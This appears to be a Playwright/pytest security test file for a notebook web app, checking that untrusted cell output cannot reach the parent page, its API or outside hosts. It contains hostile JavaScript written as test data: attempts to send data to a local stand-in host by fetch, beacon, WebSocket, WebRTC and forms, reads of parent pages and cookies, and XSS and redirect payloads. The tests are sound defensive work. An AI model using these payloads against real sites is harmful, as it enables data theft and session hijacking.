"""What untrusted code puts out can neither read the page, nor call the API, nor navigate, nor phone home."""

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import closing, suppress

import pytest
from person import add_cell, cells, ended, run_cell
from playwright.sync_api import APIRequestContext, Page, expect

ATTEMPTS = """
<p id="verdict">trying</p>
<script>
const AWAY = 'http://127.0.0.1:%(port)d/leak'
const settled = (start) => new Promise((done, no) => {
  addEventListener('securitypolicyviolation', no)
  setTimeout(no, 300)
  start(done, no)
})
const loads = (tag, address) => settled((done, no) => {
  const made = document.createElement(tag)
  Object.assign(made, { onload: done, onerror: no, rel: 'stylesheet' }, { [tag === 'link' ? 'href' : 'src']: address })
  document.body.append(made)
})
const hints = (rel) => settled((done, no) => {
  for (const as of ['script', 'image', 'fetch', 'document']) {
    const made = document.createElement('link')
    Object.assign(made, { rel, href: AWAY + '?' + rel + as, onload: done, onerror: no })
    made.setAttribute('as', as)
    document.head.append(made)
  }
})
const call = async () => {
  const urls = 'turn:127.0.0.1:%(port)d?transport=tcp'
  const made = new RTCPeerConnection({ iceServers: [{ urls, username: 'x', credential: 'x' }] })
  made.createDataChannel('x')
  await made.setLocalDescription(await made.createOffer())
}
const unanswered = () => new Promise((_, no) => setTimeout(no, 2000))  // the other side knows whether it was called
const tries = {
  preconnect: () => hints('preconnect'),
  prefetch: () => hints('prefetch'),
  preload: () => hints('preload'),
  modulepreload: () => hints('modulepreload'),
  prerender: () => hints('prerender'),
  peer: () => { call(); return unanswered() },
  readPage: () => parent.document.title,
  readTop: () => top.document.body.innerHTML,
  readHref: () => parent.location.href,
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  database: () => settled((done, no) => Object.assign(indexedDB.open('x'), { onsuccess: done, onerror: no })),
  worker: () => { new Worker('/assets/x.js') },
  open: () => { if (!window.open(AWAY)) throw new Error('blocked') },
  navigateTop: () => { top.location = AWAY },
  api: () => fetch('/api/status'),
  apiPost: () => fetch('%(base)s/api/jupyter/kernel', { method: 'POST', mode: 'no-cors' }),
  fetchAway: () => fetch(AWAY, { mode: 'no-cors' }),
  beacon: () => { navigator.sendBeacon(AWAY, 'x'); throw new Error('whether it was sent, the other side knows') },
  socket: () => settled((done, no) =>
    Object.assign(new WebSocket(AWAY.replace('http', 'ws')), { onopen: done, onerror: no })),
  events: () => settled((done, no) => Object.assign(new EventSource(AWAY), { onopen: done, onerror: no })),
  image: () => loads('img', AWAY),
  apiImage: () => loads('img', '/api/status'),
  script: () => loads('script', AWAY),
  style: () => loads('link', AWAY),
  frame: () => settled((done, no) => {
    const made = document.createElement('iframe')
    Object.assign(made, { onload: no, src: AWAY })
    document.body.append(made)
  }),
  form: () => settled((done, no) => {
    const form = document.createElement('form')
    form.action = AWAY
    document.body.append(form)
    form.submit()
  }),
}
;(async () => {
  const got = []
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(); got.push(name) } catch {}
  }
  document.getElementById('verdict').textContent = 'done: ' + JSON.stringify(got)
})()
</script>
"""


SVG = "http://www.w3.org/2000/svg"


class Listener:
    """A host the page has no business with; remembers who calls."""

    def __init__(self) -> None:
        self.calls: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._socket.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            connection, _ = self._socket.accept()
            with closing(connection):
                connection.settimeout(1)
                with suppress(TimeoutError):
                    self.calls.append(connection.recv(64))
                if b"end" in self.calls:
                    return

    def close(self) -> None:
        with socket.create_connection(("127.0.0.1", self.port)) as last:
            last.sendall(b"end")
        self._thread.join(timeout=10)
        self._socket.close()


@pytest.fixture
def elsewhere() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


def display(kind: str, data: str) -> str:
    return f"from IPython.display import display\ndisplay({{{kind!r}: {json.dumps(data)}}}, raw=True)"


def test_hostile_html_gets_nowhere(page: Page, session: str, server: str, elsewhere: Listener) -> None:
    cell = run_cell(page, display("text/html", ATTEMPTS % {"port": elsewhere.port, "base": server}))
    verdict = cell.frame_locator("iframe").locator("#verdict")
    expect(verdict).to_contain_text("done:", timeout=60_000)
    assert json.loads(verdict.inner_text().removeprefix("done: ")) == []
    assert elsewhere.calls == []
    assert page.url == f"{server}/c/{session}"
    expect(page.get_by_role("button", name="Run all")).to_be_visible()


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("text/html", "<meta http-equiv=refresh content='0; url={away}'>"),
        ("text/html", "<script>location.href = '{away}'</script>"),
        ("application/javascript", "location.replace('{away}')"),
        (
            "image/svg+xml",
            "<svg xmlns='http://www.w3.org/2000/svg' onload=\"location='{away}'\"><image href='{away}'/></svg>",
        ),
    ],
)
def test_a_frame_that_leads_itself_away_arrives_nowhere(
    page: Page, session: str, server: str, elsewhere: Listener, kind: str, data: str
) -> None:
    cell = run_cell(page, display(kind, data.replace("{away}", f"http://127.0.0.1:{elsewhere.port}/")))
    expect(cell.locator("iframe")).to_have_count(1)
    run_cell(page, "print('the page lives')")
    assert elsewhere.calls == []
    assert page.url == f"{server}/c/{session}"


def test_markdown_of_a_kernel_brings_no_markup_and_no_picture_from_elsewhere(
    page: Page, session: str, elsewhere: Listener
) -> None:
    text = f"# fine\n<img src=x onerror=alert(1)><script>alert(1)</script>\n![leak](http://127.0.0.1:{elsewhere.port}/x.png)"
    cell = run_cell(page, display("text/markdown", text))
    expect(cell.get_by_role("heading", name="fine")).to_be_visible()
    assert cell.locator("[data-outputs] img, [data-outputs] script").count() == 0
    assert elsewhere.calls == []


def test_a_frame_cannot_grow_beyond_bounds_nor_forge_messages(page: Page, session: str) -> None:
    code = "<script>setInterval(() => parent.postMessage({type: 'height', height: 1e12}, '*'), 10)</script>"
    cell = run_cell(page, display("text/html", code))
    frame = cell.locator("iframe")
    expect(frame).to_have_css("height", "4000px")


def test_hostile_files_of_a_workspace_are_downloads_that_do_nothing(
    page: Page, session: str, api: APIRequestContext, server: str
) -> None:
    script = "<script>document.title = 'taken'; fetch('/api/jupyter/kernel', {method: 'POST'})</script>"
    for name, body in {
        "evil.html": script,
        "evil.svg": f"<svg xmlns='http://www.w3.org/2000/svg'>{script}</svg>",
    }.items():
        address = f"/api/jupyter/kernel/{session}/files/{name}"
        assert api.put(address, data=body, headers={"content-type": "application/octet-stream"}).ok
        headers = api.get(address).headers
        assert headers["content-disposition"].startswith("attachment")
        assert headers["content-security-policy"] == "sandbox; default-src 'none'"
        assert headers["x-content-type-options"] == "nosniff"
        with page.expect_download() as download:
            page.evaluate("address => { const a = document.createElement('a'); a.href = address; a.click() }", address)
        assert download.value.suggested_filename == name
        inside = page.evaluate(
            """address => new Promise(done => {
                const frame = document.createElement('iframe')
                frame.onload = () => { try { done(frame.contentDocument.title) } catch { done('shut') } }
                setTimeout(() => done('nothing'), 500)
                frame.src = address
                document.body.append(frame)
            })""",
            address,
        )
        assert inside != "taken"
    assert page.title() != "taken"


def test_a_long_print_is_shown_in_part(page: Page, session: str) -> None:
    cell = add_cell(page, "for n in range(30000): print('line', n)")
    page.keyboard.press("Control+Enter")
    ended(cells(page).first, "ok")
    expect(cell.get_by_role("button", name="Show all")).to_be_visible()
    expect(cell.locator("[data-outputs]")).to_contain_text("line 29999")
